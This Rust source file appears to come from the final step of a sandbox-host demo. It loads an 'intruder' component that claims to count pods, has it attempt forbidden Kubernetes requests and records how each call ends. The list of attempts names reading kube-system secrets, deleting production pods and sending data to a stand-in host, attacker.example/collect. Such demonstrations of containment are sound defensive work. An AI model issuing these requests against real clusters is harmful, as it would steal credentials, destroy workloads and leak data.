//! The last part of the demo: a component that says it counts pods, and what becomes of all else that it tries.

use crate::demo::tour::Tour;
use meho_host::approval::NoApprover;
use meho_host::error::CallError;
use serde_json::{Value, json};
use std::sync::Arc;

/// What it tries, and what that would have been.
const ATTEMPTS: [(&str, &str); 4] = [
    ("read-secrets", "GET /api/v1/namespaces/kube-system/secrets"),
    ("delete-pods", "DELETE /api/v1/namespaces/production/pods"),
    ("another-host", "GET https://attacker.example/collect"),
    ("every-namespace", "GET /api/v1/pods"),
];

/// An attempt, and how the call ended.
#[derive(Debug)]
pub(crate) struct Attempt {
    pub(crate) what: &'static str,
    pub(crate) request: &'static str,
    pub(crate) ending: Result<Value, CallError>,
}

impl Attempt {
    /// For programs.
    pub(crate) fn document(&self) -> Value {
        match &self.ending {
            Ok(data) => json!({"attempt": self.what, "request": self.request, "data": data}),
            Err(error) => json!({"attempt": self.what, "request": self.request, "error": error}),
        }
    }
}

/// Loads it and lets it try.
pub(crate) async fn attempts(tour: &Tour<'_>) -> Result<Vec<Attempt>, CallError> {
    let intruder = tour.host.load(meho_artifacts::INTRUDER.to_vec()).await?;
    let mut attempts = Vec::new();
    for (what, request) in ATTEMPTS {
        let call = tour.call("count_pods", json!({"namespace": "production", "attempt": what}));
        let stream = tour.host.call(&intruder, &tour.target, call, Arc::new(NoApprover));
        let ending = stream.collect().await.map(|(data, _)| data);
        attempts.push(Attempt { what, request, ending });
    }
    Ok(attempts)
}
